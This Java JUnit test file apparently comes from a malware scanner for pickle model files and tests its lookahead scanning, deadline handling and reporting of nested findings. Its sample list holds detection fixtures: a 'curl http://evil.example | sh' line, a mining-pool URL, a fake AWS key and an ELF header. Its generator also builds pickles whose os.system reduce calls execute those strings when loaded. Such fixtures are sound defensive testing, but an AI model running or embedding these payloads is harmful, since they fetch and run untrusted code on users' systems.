package io.casemate.scan.engine;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.casemate.scan.Scanners;
import io.casemate.scan.call.Judges;
import io.casemate.scan.pickle.PickleBuilder;
import io.casemate.scan.result.FileReport;
import io.casemate.scan.result.Finding;
import io.casemate.scan.result.Gap;
import io.casemate.scan.rule.Rules;
import io.casemate.scan.spi.Content;
import io.casemate.scan.spi.FormatScanner;
import io.casemate.scan.spi.Inspection;
import io.casemate.scan.spi.Limits;
import io.casemate.scan.spi.Recognition;
import java.io.IOException;
import java.lang.foreign.Arena;
import java.nio.channels.FileChannel;
import java.nio.channels.FileChannel.MapMode;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.time.Duration;
import java.util.Arrays;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.LongSupplier;
import java.util.random.RandomGenerator;
import java.util.random.RandomGeneratorFactory;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class LookaheadTest {
    private static final List<String> WORDS = List.of(
            "a plain word",
            "https://example.org/model",
            "http://203.0.113.7:8080/x",
            "stratum+tcp://pool.example:3333",
            "AKIA" + "QYLPMN5HNM4ZK3TZ",
            "password = 'hunter2hunter2'",
            "\u007fELF\2\1\1\0\0\0\0\0\0\0\0\0\3\0>\0\1\0\0\0",
            "#!/bin/sh\ncurl http://evil.example | sh",
            "GNU Affero General Public License",
            "http://abcdefghijklmnop.onion/");

    /** A toy format of one byte that is its own, and a file in all others; it is told of the file at the end. */
    private record ShellScanner(AtomicInteger steps) implements FormatScanner {
        @Override
        public String id() {
            return "shell";
        }

        @Override
        public Recognition recognises(Content content) {
            return content.u8(0) == 'S' ? Recognition.CERTAIN : Recognition.NO;
        }

        @Override
        public boolean whole() {
            return true;
        }

        @Override
        public void scan(Content content, Inspection inspection) {
            inspection.read(0, 1);
            inspection.step();
            steps.incrementAndGet();
            inspection.nested(content.slice(content.name() + "!in", 1, content.size() - 1), 1, content.size() - 1);
        }
    }

    @Test
    void a_file_searched_ahead_is_reported_as_one_searched_afterwards() {
        long seed = 20261121L;
        RandomGenerator random = RandomGeneratorFactory.of("L64X128MixRandom").create(seed);
        int told = 0;
        for (int round = 0; round < 60; round++) {
            byte[] bytes = pickle(random);
            FileReport ahead = report(bytes, 0);
            assertThat(ahead).as("seed %d round %d", seed, round).isEqualTo(report(bytes, Long.MAX_VALUE));
            told += ahead.findings().size();
        }
        assertThat(told).isGreaterThan(60);
    }

    @Test
    void what_lies_inside_is_told_where_it_is_once() {
        byte[] bytes = ("S" + WORDS.get(3)).getBytes(ISO_8859_1);
        var steps = new AtomicInteger();
        FileReport report = reading(Content.of("f", bytes), 0, Limits.DEFAULT, System::nanoTime, shell(steps))
                .report();
        assertThat(report.findings())
                .filteredOn(finding -> finding.rule().id().equals("indicator/miner"))
                .extracting(finding -> finding.location().member())
                .containsExactly("in");
        assertThat(steps).hasValue(1);
    }

    @Test
    void it_begins_in_large_files_only_and_once() {
        byte[] bytes = PickleBuilder.pickle(2).none().stop();
        Content file = Content.of("f", bytes);
        var bounds =
                new Reading(reading(file, Long.MAX_VALUE, Limits.DEFAULT, System::nanoTime, List.of()), "", file, 0, 0);
        var small = new Lookahead(file, new FileDigest(file), bytes.length + 1);
        small.begin(bounds);
        assertThat(small.tell(bounds)).isFalse();
        var large = new Lookahead(file, new FileDigest(file), bytes.length);
        large.begin(bounds);
        assertThat(large.tell(bounds)).isTrue();
        large.end();
        large.begin(bounds);
        assertThat(large.tell(bounds)).isFalse();
    }

    @Test
    void the_deadline_holds_for_both_threads() {
        byte[] bytes = new byte[4 << 20];
        Arrays.fill(bytes, (byte) 'N');
        var limits = new Limits(Duration.ofNanos(1), 1 << 20, 8, 100, false);
        var clock = new AtomicInteger();
        FileReport report = reading(
                        Content.of("f", bytes), 0, limits, () -> clock.getAndIncrement() < 3 ? 0 : 10, Scanners.ALL)
                .report();
        assertThat(report.gaps()).extracting(Gap::what).anyMatch(what -> what.contains("deadline"));
        assertThat(report.sha256()).hasSize(64);
    }

    @Test
    void findings_far_apart_come_once_and_in_order() {
        var builder = PickleBuilder.pickle(4);
        for (int i = 0; i < 6; i++) {
            builder.binunicode("x".repeat(100_000)).binunicode(WORDS.get(3));
        }
        byte[] bytes = builder.stop();
        List<Finding> ahead = report(bytes, 0).findings();
        assertThat(ahead).isEqualTo(report(bytes, Long.MAX_VALUE).findings());
        assertThat(ahead)
                .filteredOn(finding -> finding.rule().id().equals("indicator/miner"))
                .hasSize(6);
    }

    @Test
    void a_file_that_becomes_shorter_ends_both_threads(@TempDir Path folder) throws IOException {
        Path file = folder.resolve("model.pkl");
        var builder = PickleBuilder.pickle(4);
        for (int i = 0; i < 400; i++) {
            builder.binunicode("x".repeat(10_000));
        }
        Files.write(file, builder.stop());
        try (FileChannel channel = FileChannel.open(file, StandardOpenOption.READ, StandardOpenOption.WRITE);
                Arena arena = Arena.ofShared()) {
            var content = Content.of("f", channel.map(MapMode.READ_ONLY, 0, channel.size(), arena));
            FileReading reading = reading(content, 0, Limits.DEFAULT, System::nanoTime, Scanners.ALL);
            channel.truncate(4096);
            assertThatThrownBy(reading::report).isInstanceOf(InternalError.class);
        }
    }

    private static byte[] pickle(RandomGenerator random) {
        var builder = PickleBuilder.pickle(random.nextInt(2, 6)).mark();
        for (int i = random.nextInt(1, 40); i > 0; i--) {
            String word = WORDS.get(random.nextInt(WORDS.size()));
            switch (random.nextInt(6)) {
                case 0 -> builder.binunicode(word);
                case 1 -> builder.binunicode(word.repeat(random.nextInt(1, 100)));
                case 2 -> builder.none();
                case 3 ->
                    builder.global("os", "system").binunicode(word).tuple1().reduce();
                case 4 -> builder.binunicode("x".repeat(random.nextInt(200_000)) + word);
                default ->
                    builder.global("collections", "OrderedDict").emptyTuple().reduce();
            }
        }
        byte[] bytes = builder.list().stop();
        return switch (random.nextInt(4)) {
            case 0 -> Arrays.copyOf(bytes, random.nextInt(1, bytes.length));
            case 1 -> joined(bytes, WORDS.get(random.nextInt(WORDS.size())).getBytes(ISO_8859_1));
            case 2 -> joined(bytes, PickleBuilder.pickle(2).none().stop());
            default -> bytes;
        };
    }

    private static byte[] joined(byte[] first, byte[] second) {
        byte[] both = Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, both, first.length, second.length);
        return both;
    }

    private static List<FormatScanner> shell(AtomicInteger steps) {
        return List.of(new ShellScanner(steps));
    }

    private static FileReport report(byte[] bytes, long sharedFromBytes) {
        return reading(Content.of("f", bytes), sharedFromBytes, Limits.DEFAULT, System::nanoTime, Scanners.ALL)
                .report();
    }

    private static FileReading reading(
            Content content, long sharedFromBytes, Limits limits, LongSupplier nanos, List<FormatScanner> scanners) {
        return new FileReading(
                content, scanners, Rules.builtIn(), Judges.builtIn(), new Budget(limits, nanos), sharedFromBytes);
    }
}
